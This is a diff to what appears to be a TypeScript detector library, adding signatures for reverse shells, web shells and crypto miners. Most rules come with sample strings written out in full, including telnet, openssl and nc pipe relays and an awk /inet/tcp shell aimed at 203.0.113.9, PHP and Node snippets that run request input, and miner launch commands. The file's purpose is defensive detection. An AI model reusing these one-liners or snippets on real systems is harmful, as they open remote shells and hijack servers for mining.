@@ -104,6 +104,27 @@ const REVERSE_SHELLS: readonly Detector[] = [
     ],
     quiet: ['mkfifo /run/log.pipe && tail -f /run/log.pipe | sh /filter.sh'],
   }),
+  sign('reverse-shell', 'pipes', {
+    how: 'a shell stands between two connections',
+    literals: ['|/bin/sh', '| /bin/sh', '|/bin/bash', '| /bin/bash', '| sh ', '| bash ', '|sh|', '|bash|'],
+    pattern:
+      /(?<=(?<![\w.-])(?:nc|ncat|netcat|telnet|openssl\s+s_client)\s[^\n;|&]{2,80})\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b(?:[^\n|;]{0,40}\|\s{0,3}(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b|\s{0,3}1?>\s{0,3}[\w./-]{1,40})/y,
+    examples: [
+      'telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445',
+      'openssl s_client -quiet -connect 203.0.113.9:443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 203.0.113.9:444',
+      'mknod backpipe p && nc 203.0.113.9 443 0<backpipe | /bin/bash 1>backpipe',
+    ],
+    quiet: ['echo quit | openssl s_client -connect db:443 | sh parse.sh', 'nc -z db 5432 || sh wait.sh'],
+  }),
+  sign('reverse-shell', 'awk', {
+    how: 'awk runs what a connection sends',
+    literals: ['/inet/tcp/0/'],
+    pattern: /\/inet\/tcp\/0\/[^"'\s]{3,80}["'][\s\S]{0,300}?(?:\|&\s{0,3}getline|system\()/y,
+    examples: [
+      'awk \'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(1) { do { printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s } while(c != "exit") }}\'',
+    ],
+    quiet: ['service = "/inet/tcp/0/localhost/25"'],
+  }),
   sign('reverse-shell', 'python', {
     how: 'Python ties a shell to a socket',
     literals: ['.fileno()'],
@@ -210,6 +231,21 @@ const WEB_SHELLS: readonly Detector[] = [
       '<?php Loader::system($_GET["x"]);',
     ],
   }),
+  sign('web-shell', 'php-backtick', {
+    how: 'PHP runs what a request sends',
+    literals: ['$_GET', '$_POST', '$_REQUEST', '$_COOKIE'],
+    pattern: /(?<=(?:echo|print|=|<\?=|\()\s{0,3}`[^`\n]{0,40}\{?)\$_(?:GET|POST|REQUEST|COOKIE)\b[^`\n]{0,60}`/y,
+    examples: ['<?php echo `$_GET[c]`; ?>', "<?= `{$_REQUEST['c']}` ?>"],
+    quiet: ['<?php // reads `$_GET[c]` of the page', 'SELECT `a` = $_GET[b]'],
+  }),
+  sign('web-shell', 'node', {
+    how: 'Node.js runs what a request sends',
+    literals: ['req.query', 'req.body', 'req.params', 'request.query', 'request.body'],
+    pattern:
+      /(?<=(?<![\w.])(?:(?:child_process|cp)\.)?(?:exec|execSync|spawn|spawnSync|eval)\(\s{0,3})(?:req|request)\.(?:query|body|params)\b/y,
+    examples: ['exec(req.query.cmd, done)', 'eval(req.body.code)'],
+    quiet: ['pattern.exec(req.query.q)', 'const q = req.query.q'],
+  }),
   sign('web-shell', 'php-call', {
     how: 'PHP calls the function that a request names',
     literals: ['$_GET', '$_POST', '$_REQUEST', '$_COOKIE'],
@@ -283,9 +319,18 @@ const POOLS = [
 const MINERS: readonly Detector[] = [
   sign('crypto-miner', 'stratum', {
     how: 'it talks to a mining pool (stratum)',
-    literals: ['stratum+tcp://', 'stratum+ssl://', 'stratum+tls://', 'stratum2+tcp://', 'stratum+udp://'],
+    literals: [
+      'stratum+tcp://',
+      'stratum+ssl://',
+      'stratum+tls://',
+      'stratum+udp://',
+      'stratum1+tcp://',
+      'stratum1+ssl://',
+      'stratum2+tcp://',
+      'stratum2+ssl://',
+    ],
     pattern:
-      /stratum2?\+(?:tcp|ssl|tls|udp):\/\/(?!(?:example|your|pool\.example|host|server)\b)[A-Za-z0-9][A-Za-z0-9.-]{2,80}(?::\d{2,5})/y,
+      /stratum[12]?\+(?:tcp|ssl|tls|udp):\/\/(?!(?:example|your|pool\.example|host|server)\b)[A-Za-z0-9][A-Za-z0-9.-]{2,80}(?::\d{2,5})/y,
     examples: ['xmrig -o stratum+tcp://pool.acme.io:3333 -u x', '"url": "stratum+ssl://203.0.113.9:443"'],
     quiet: ['stratum+tcp://%s:%d', 'stratum+tcp://example.com:3333', 'supports stratum+tcp:// and stratum+ssl://'],
   }),
@@ -296,6 +341,14 @@ const MINERS: readonly Detector[] = [
       /(?:pool\.minexmr\.com|xmrpool\.eu|supportxmr\.com|nanopool\.org|2miners\.com|moneroocean\.stream|hashvault\.pro|c3pool\.(?:com|org)|minergate\.com|unmineable\.com|herominers\.com|monerohash\.com|kryptex\.network):\d{2,5}(?!\d)/y,
     examples: ['-o xmr-eu1.nanopool.org:14444', 'gulf.moneroocean.stream:10128'],
     quiet: ['https://nanopool.org/help', '0.0.0.0 xmrpool.eu'],
+  }),
+  sign('crypto-miner', 'algorithm', {
+    how: 'it starts a miner',
+    literals: ['cryptonight', 'randomx', 'rx/0', 'ethash', 'kawpow', 'autolykos2'],
+    pattern:
+      /(?<=(?:\s-a|\s--algo(?:rithm)?)[\s=]{1,3}|"algo"\s{0,3}:\s{0,3}")(?:cryptonight|randomx|rx\/0|ethash|kawpow|autolykos2)\b/y,
+    examples: ['minerd -a cryptonight -o pool.acme.io:3333', '{"algo": "rx/0", "coin": "monero"}'],
+    quiet: ['the algorithms cryptonight and randomx', 'ethash --verify'],
   }),
   sign('crypto-miner', 'xmrig', {
     how: 'it is XMRig, or set up for it',
